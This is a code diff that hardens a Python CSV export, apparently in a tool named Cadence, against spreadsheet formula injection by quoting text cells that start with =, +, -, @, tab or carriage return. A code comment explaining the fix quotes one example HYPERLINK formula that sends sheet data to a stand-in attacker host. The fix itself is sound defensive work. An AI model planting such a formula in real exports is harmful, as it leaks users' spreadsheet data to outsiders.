@@ -111,11 +111,26 @@ class Export:
         return f"cadence-{self.engagement.handle}{span}.zip"
 
 
+# A spreadsheet reads a cell that starts with one of these as a formula (OWASP, "CSV
+# Injection"): `=HYPERLINK("https://evil.example/?d="&A1)` in a summary would send the lead's
+# sheet to whoever typed it. Text is written with a leading quote instead; numbers Cadence
+# writes itself (a KPI of -5.0) are not text and stay numbers.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def cell(value: object) -> object:
+    """`value` as a CSV cell a spreadsheet shows rather than evaluates: text that would start
+    a formula gets a leading single quote; the csv module still quotes what needs quoting."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 def _csv(header: list[str], rows: list[list[object]]) -> str:
     out = io.StringIO()
     writer = csv.writer(out)
-    writer.writerow(header)
-    writer.writerows(rows)
+    writer.writerow([cell(h) for h in header])
+    writer.writerows([cell(v) for v in row] for row in rows)
     return out.getvalue()
 
 
